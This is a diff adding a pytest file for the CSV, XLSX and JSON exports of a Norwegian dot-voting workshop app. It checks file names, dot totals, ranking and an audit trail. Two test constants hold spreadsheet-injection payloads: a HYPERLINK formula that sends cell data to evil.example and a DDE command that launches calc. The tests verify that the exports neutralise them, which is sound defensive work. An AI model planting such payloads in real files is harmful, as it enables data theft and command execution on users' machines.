@@ -1,0 +1,236 @@
+"""Exports a case officer can archive: CSV, XLSX and JSON read back and checked."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from dataclasses import dataclass
+from datetime import datetime
+from pathlib import Path
+from typing import Any
+from zoneinfo import ZoneInfo
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from tests.conftest import Api, Workshop
+
+SAMPLE = Path("/work/shared/data/sample-proposals.csv")
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")'
+FORMULA_BODY = "@SUM(1+1)*cmd|' /C calc'!A0"
+FAMILY_TITLE = "Færre høringsrunder på små reguleringsplaner – også i Øyer og Åsnes"
+
+
+def today() -> str:
+    return datetime.now(ZoneInfo("Europe/Oslo")).date().isoformat()
+
+
+def sample_rows() -> list[dict[str, str]]:
+    if not SAMPLE.exists():
+        pytest.skip(f"sample data missing: {SAMPLE}")
+    with SAMPLE.open(encoding="utf-8", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+@dataclass
+class Held:
+    """A workshop that has been held: proposals, votes, reveal, and the expected totals."""
+
+    ws: Workshop
+    ids: dict[str, int]  # title -> id, visible proposals only
+    dots: dict[int, int]
+    folkevalgt: dict[int, int]
+    pending_title: str
+
+
+@pytest.fixture
+def held(api: Api) -> Held:
+    """The 30 sample proposals plus two awkward ones, six voters in three roles, revealed."""
+    ws = api.create("Planverksted i Åsnes", settings={"moderation": True})
+    api.go_to(ws, "collect")
+    ids: dict[str, int] = {}
+    for row in sample_rows():
+        response = api.propose(ws.code, ws.facilitator_key, row["title"], body=row["body"],
+                               category=row["category"])
+        assert response.status_code == 201, response.get_json()
+        ids[row["title"]] = response.get_json()["id"]
+    for title, body in ((FORMULA_TITLE, FORMULA_BODY), (FAMILY_TITLE, "-5 dager frist")):
+        response = api.propose(ws.code, ws.facilitator_key, title, body=body)
+        ids[title] = response.get_json()["id"]
+    phone = api.join(ws.code)
+    pending_title = "Ventende forslag som ikke er godkjent"
+    assert api.propose(ws.code, phone, pending_title).get_json()["status"] == "pending"
+    api.go_to(ws, "vote")
+    titles = list(ids)
+    first, second, third = ids[titles[0]], ids[titles[1]], ids[titles[2]]
+    formula = ids[FORMULA_TITLE]
+    for _ in range(3):
+        key = api.join(ws.code, role="Folkevalgt")
+        assert api.vote(ws.code, key, {first: 3, second: 2}).status_code == 200
+    for _ in range(2):
+        key = api.join(ws.code, role="Administrasjon")
+        assert api.vote(ws.code, key, {second: 1, third: 4}).status_code == 200
+    key = api.join(ws.code, role="Innbygger")
+    assert api.vote(ws.code, key, {formula: 5}).status_code == 200
+    api.go_to(ws, "results")
+    dots = dict.fromkeys(ids.values(), 0)
+    dots.update({first: 9, second: 8, third: 8, formula: 5})
+    folkevalgt = dict.fromkeys(ids.values(), 0)
+    folkevalgt.update({first: 9, second: 6})
+    return Held(ws, ids, dots, folkevalgt, pending_title)
+
+
+def download(api: Api, ws: Workshop, fmt: str) -> Any:
+    response = api.get(f"{ws.code}/export.{fmt}", ws.facilitator_key)
+    assert response.status_code == 200, response.get_data(as_text=True)[:300]
+    return response
+
+
+def attachment_name(response: Any) -> str:
+    disposition = response.headers["Content-Disposition"]
+    assert disposition.startswith("attachment")
+    match = re.search(r'filename="([^"]+)"', disposition)
+    assert match, disposition
+    return match.group(1)
+
+
+@pytest.mark.parametrize(
+    ("fmt", "mimetype"),
+    [
+        ("csv", "text/csv"),
+        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+        ("json", "application/json"),
+    ],
+)
+def test_file_name_carries_workshop_code_and_date(api: Api, held: Held, fmt: str,
+                                                  mimetype: str) -> None:
+    response = download(api, held.ws, fmt)
+    assert response.mimetype == mimetype
+    name = attachment_name(response)
+    assert held.ws.code in name
+    assert today() in name
+    assert name.endswith(f".{fmt}")
+    assert "asnes" in name  # the workshop's title, in plain ASCII
+    assert name.isascii()
+
+
+def check_rows(rows: list[dict[str, Any]], held: Held) -> None:
+    """One row per visible proposal, the right dots, ranked, role columns only if large."""
+    assert len(rows) == 32
+    assert {int(r["id"]) for r in rows} == set(held.ids.values())
+    assert {int(r["id"]): int(r["dots"]) for r in rows} == held.dots
+    assert [int(r["dots"]) for r in rows] == sorted((int(r["dots"]) for r in rows), reverse=True)
+    assert [int(r["rank"]) for r in rows] == list(range(1, 33))
+    assert int(rows[1]["voters"]) == 5  # 8 dots from five voters ranks before 8 from two
+    assert {int(r["id"]): int(r["dots: Folkevalgt"]) for r in rows} == held.folkevalgt
+    assert not any(key.startswith("dots: Administrasjon") for key in rows[0])
+    assert not any(key.startswith("dots: Innbygger") for key in rows[0])
+    assert held.pending_title not in {r["title"] for r in rows}
+
+
+def test_csv_has_one_row_per_visible_proposal_with_its_dots(api: Api, held: Held) -> None:
+    content = download(api, held.ws, "csv").data.decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(content)))
+    assert {"id", "title", "body", "category", "dots", "voters"} <= set(rows[0])
+    check_rows(rows, held)
+    by_title = {r["title"]: r for r in rows}
+    assert FAMILY_TITLE in by_title  # æ, ø, å survive
+    assert by_title[FAMILY_TITLE]["body"] == "'-5 dager frist"
+    assert "Slå sammen handlingsdel og økonomiplan" in by_title
+    assert by_title["Slå sammen handlingsdel og økonomiplan"]["category"] == (
+        "handlingsdel og økonomiplan"
+    )
+
+
+def test_csv_neutralises_formulas(api: Api, held: Held) -> None:
+    content = download(api, held.ws, "csv").data.decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(content)))
+    formula_row = next(r for r in rows if int(r["id"]) == held.ids[FORMULA_TITLE])
+    assert formula_row["title"] == "'" + FORMULA_TITLE
+    assert formula_row["body"] == "'" + FORMULA_BODY
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@")), value
+    frame = pd.read_csv(io.StringIO(content))
+    assert frame["dots"].sum() == sum(held.dots.values())
+
+
+def test_xlsx_has_a_proposal_sheet_with_dots_and_a_sheet_about_the_method(api: Api,
+                                                                         held: Held) -> None:
+    content = download(api, held.ws, "xlsx").data
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    assert "Forslag" in book.sheetnames and "Om" in book.sheetnames
+    sheet = book["Forslag"]
+    header = [cell.value for cell in sheet[1]]
+    assert "dots" in header and "title" in header
+    rows = [dict(zip(header, (c.value for c in row), strict=True))
+            for row in sheet.iter_rows(min_row=2)]
+    check_rows(rows, held)
+    for row in sheet.iter_rows(min_row=2):
+        for cell in row:
+            assert cell.data_type != "f", cell.value  # no cell is a formula
+    formula_row = next(r for r in rows if r["id"] == held.ids[FORMULA_TITLE])
+    assert formula_row["title"] == "'" + FORMULA_TITLE
+    assert FAMILY_TITLE in {r["title"] for r in rows}
+
+    about = {row[0].value: row[1].value for row in book["Om"].iter_rows(min_row=2)}
+    assert about["code"] == held.ws.code
+    assert about["workshop"] == "Planverksted i Åsnes"
+    assert about["voters"] == 6
+    assert about["votes_per_participant"] == 5
+    method = about["method"]
+    assert "Prikkestemming" in method and "5 prikker" in method
+    assert "færre enn 3" in method
+
+
+def test_xlsx_reads_back_with_pandas(api: Api, held: Held) -> None:
+    content = download(api, held.ws, "xlsx").data
+    frame = pd.read_excel(io.BytesIO(content), sheet_name="Forslag")
+    assert len(frame) == 32
+    assert dict(zip(frame["id"], frame["dots"], strict=True)) == held.dots
+
+
+def test_json_archive_holds_method_proposals_and_audit(api: Api, held: Held) -> None:
+    document = json.loads(download(api, held.ws, "json").data.decode("utf-8"))
+    assert document["workshop"]["code"] == held.ws.code
+    assert [s["kind"] for s in document["workshop"]["steps"]] == ["info", "collect", "vote",
+                                                                  "results"]
+    assert document["about"]["voters"] == 6
+    assert "Prikkestemming" in document["about"]["method"]
+    check_rows(document["proposals"], held)
+    titles = {p["title"] for p in document["proposals"]}
+    assert FAMILY_TITLE in titles
+    actions = [entry["action"] for entry in document["audit"]]
+    assert actions[0] == "created"
+    assert actions.count("step") == 3
+
+
+def test_every_format_has_the_same_name_apart_from_the_extension(api: Api, held: Held) -> None:
+    names = {attachment_name(download(api, held.ws, fmt)).rsplit(".", 1)[0]
+             for fmt in ("csv", "xlsx", "json")}
+    assert len(names) == 1
+
+
+def test_an_export_before_any_vote_lists_every_proposal_with_zero_dots(api: Api) -> None:
+    ws = api.create("Tomt")
+    api.go_to(ws, "collect")
+    for title in ("Én", "To"):
+        api.propose(ws.code, ws.facilitator_key, title)
+    rows = list(csv.DictReader(io.StringIO(download(api, ws, "csv").data.decode("utf-8"))))
+    assert sorted(r["title"] for r in rows) == ["To", "Én"]
+    assert {r["dots"] for r in rows} == {"0"}
+    book = openpyxl.load_workbook(io.BytesIO(download(api, ws, "xlsx").data))
+    assert book["Forslag"].max_row == 3
+
+
+def test_an_export_of_an_empty_workshop_still_has_the_header(api: Api) -> None:
+    ws = api.create("Helt tomt")
+    content = download(api, ws, "csv").data.decode("utf-8")
+    header = next(csv.reader(io.StringIO(content)))
+    assert "dots" in header and "title" in header
+    book = openpyxl.load_workbook(io.BytesIO(download(api, ws, "xlsx").data))
+    assert "dots" in [cell.value for cell in book["Forslag"][1]]
+    assert json.loads(download(api, ws, "json").data)["proposals"] == []
